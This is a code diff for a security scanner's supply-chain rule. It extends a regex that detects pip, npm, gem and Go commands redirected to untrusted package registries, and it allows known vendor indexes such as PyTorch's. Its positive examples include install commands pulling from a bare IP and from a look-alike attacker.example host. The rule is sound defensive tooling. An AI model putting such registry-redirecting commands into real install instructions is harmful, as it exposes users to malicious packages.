@@ -1,6 +1,15 @@
 import { extensionOf } from "../classify.js";
 import type { Rule, SkillContext, SkillHit } from "../types.js";
-import { SCRIPTS_AND_PROSE } from "./common.js";
+import { SCRIPTS_AND_PROSE, hitsOf } from "./common.js";
+import { isKnownSourceAddress } from "./source-redirect.js";
+
+/**
+ * Where an installer is told to fetch packages from (capture: the address where one is written):
+ * pip/uv flags and their environment variables, `pip.conf`/`.npmrc` lines, npm's and Yarn's
+ * registry settings, `gem install --source` and `gem sources --add`, a `GOPROXY` address.
+ */
+const EXTRA_INDEX =
+  /--(?:extra-)?index-url\b[\s=]+["']?([^\s`,;)"']+)|--trusted-host\b|\bnpm\s+config\s+set\s+(?:@[\w-]+:)?registry\b[\s=]+["']?([^\s"']+)|\s--registry[= ]["']?((?!https:\/\/registry\.npmjs\.org)[^\s"']+)|^\s*(?:extra-)?index-url\s*=\s*(\S+)|\b(?:PIP|UV)_(?:EXTRA_)?INDEX_URL\s*=\s*["']?(\S+?)["']?(?=\s|$)|(?:^|["'\s])registry\s*=\s*["']?(https?:\/\/[^\s"']+)|\bgem\s+(?:install\b[^\n]{0,200}\s--source|sources\s+(?:--add|-a))[= ](?!https:\/\/rubygems\.org)(\S+)|\bGOPROXY\s*=\s*["']?(https?:\/\/[^\s"',|]+)/gm;
 
 const EXECUTABLE_EXTENSIONS = new Set(["exe", "dll", "so", "dylib", "bin", "elf", "o", "a", "pyc", "pyo", "class", "jar", "wasm", "node", "msi", "scr", "com", "deb", "rpm", "apk", "app"]);
 
@@ -55,9 +64,9 @@ export const supplyChainRules: Rule[] = [
     fix: "Use the default registry, or pin packages by hash from a private index you control.",
     fileKinds: [...SCRIPTS_AND_PROSE, "config"],
     context: "command",
-    keywords: ["index-url", "registry", "trusted-host"],
-    // PyTorch's own wheel index (its install docs' command; exact host and path) is the vendor's, not a look-alike registry.
-    pattern: /--extra-index-url\b(?=[\s=]+[^\s`,.;)])(?![\s=]+https:\/\/download\.pytorch\.org\/whl\/)|--index-url[\s=]+(?!https:\/\/pypi\.org\/simple|https:\/\/download\.pytorch\.org\/whl\/)\S+|--trusted-host\b|\bnpm\s+config\s+set\s+registry\b|\s--registry[= ](?!https:\/\/registry\.npmjs\.org)\S+|^\s*extra-index-url\s*=/gm,
+    keywords: ["index-url", "index_url", "registry", "trusted-host", "--source", "sources", "goproxy"],
+    // An index of the ecosystem's own or a well-known vendor's (PyTorch's, NVIDIA's wheels) is not a look-alike registry.
+    match: (segment) => hitsOf(EXTRA_INDEX, segment.text, (m) => !isKnownSourceAddress(m.slice(1).find((v) => v !== undefined) ?? "")),
     examples: {
       positive: ["pip install --extra-index-url http://203.0.113.3/simple internal-tool", "pip install torch --index-url https://download.pytorch.org.attacker.example/whl/cpu"],
       negative: ["pip install -r requirements.txt", "uv pip install torch --index-url https://download.pytorch.org/whl/cpu", "pip3 install torch --extra-index-url https://download.pytorch.org/whl/cu121"],
